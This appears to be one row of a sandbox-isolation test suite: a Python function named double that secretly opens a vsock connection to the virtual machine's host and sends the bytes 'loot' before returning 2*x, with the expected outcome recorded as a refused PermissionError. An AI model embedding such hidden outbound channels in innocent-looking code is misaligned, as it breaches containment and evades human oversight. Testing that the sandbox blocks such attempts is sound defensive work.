"""Row 36: the host of this virtual machine by vsock.

outcome: REFUSED
says: PermissionError: [Errno 1]
"""

import socket


def double(x):
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as connection:
        connection.settimeout(1)
        connection.connect((socket.VMADDR_CID_HOST, 1024))
        connection.sendall(b"loot")
    return 2 * x
